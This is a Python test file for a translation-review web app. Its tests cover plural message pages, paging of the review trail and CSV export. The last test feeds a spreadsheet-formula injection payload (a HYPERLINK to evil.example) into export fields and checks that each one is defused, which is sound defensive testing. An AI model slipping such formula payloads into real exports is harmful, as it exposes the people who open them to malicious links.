def test_plural_message_pages_show_each_form_in_the_trail(people, scenario, app):
    work = people
    work.user("rashid", "reviewer", "ar")
    mid = message_id(("", plural_msgid(work), next(e.msgid_plural for e in load_po(work.paths.template)
                                                     if e.msgid_plural)))
    client = app.test_client()
    login(client, "rashid")
    html = client.get(f"/review/ar/m/{mid}").get_data(as_text=True)
    (rows,) = trail_tables(html)
    assert [row[1] for row in rows] == ["Approved"]
    assert all(form in rows[0][3] for form in ARABIC_FORMS)
    table = trail_html(client.get("/review/ar/trail").get_data(as_text=True))
    assert f'href="/review/ar/m/{mid}"' in table


def test_locale_trail_has_pages_of_100_newest_first(people, app):
    work = people
    base = dt.datetime(2026, 1, 1, 9, 0, 0)
    with work.session() as session:
        rita = find_user(session, "rita")
        for index in range(105):
            common = dict(locale="es", fingerprint=f"{index:064d}", msgctxt="", msgid=f"Sentence number {index:03d}",
                          msgid_plural="", translation_json=json.dumps([f"Frase {index:03d}"]),
                          reviewer_id=rita.id, created_at=base + dt.timedelta(minutes=index))
            if index % 2:
                session.add(Rejection(reason=f"reason-{index:03d}", **common))
            else:
                session.add(Approval(author_known=False, note=f"reason-{index:03d}", **common))
        session.commit()
    client = app.test_client()
    login(client, "rita")

    first = client.get("/review/es/trail").get_data(as_text=True)
    (rows,) = trail_tables(first)
    assert [row[5] for row in rows] == [f"reason-{i:03d}" for i in range(104, 4, -1)]
    assert "105 in all" in first and "page 1 of 2" in first
    assert 'href="/review/es/trail?page=2"' in first and "Newer" not in first

    second = client.get("/review/es/trail?page=2").get_data(as_text=True)
    (rows,) = trail_tables(second)
    assert [row[5] for row in rows] == [f"reason-{i:03d}" for i in range(4, -1, -1)]
    assert [row[1] for row in rows] == ["Approved", "Rejected", "Approved", "Rejected", "Approved"]
    assert rows[-1][0] == "2026-01-01 09:00"
    assert "page 2 of 2" in second and 'href="/review/es/trail?page=1"' in second
    assert "reason-005" not in second

    beyond = client.get("/review/es/trail?page=9").get_data(as_text=True)
    assert [row[5] for row in trail_tables(beyond)[0]] == [f"reason-{i:03d}" for i in range(4, -1, -1)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_that_a_spreadsheet_could_run_is_defused(start):
    """A cell starting with a tab or a carriage return is a formula to some spreadsheets too
    (OWASP "CSV injection"): every text field of an event is guarded, whatever its first character."""
    text = f'{start}=HYPERLINK("http://evil.example/")'
    event = trail.TrailEvent(kind="rejected", at=dt.datetime(2026, 1, 2, 3, 4, tzinfo=dt.timezone.utc),
                             locale="es", msgctxt="", msgid=text, msgid_plural="", forms=(text,),
                             fingerprint="f", reviewer="rita", reviewer_name=text, reason=text, author="",
                             author_known=None, approval_id=None)
    (row,) = list(csv.DictReader(io.StringIO(trail.to_csv([event]))))
    for name in ("source", "translation", "reviewer_name", "reason"):
        assert row[name] == "'" + text, name
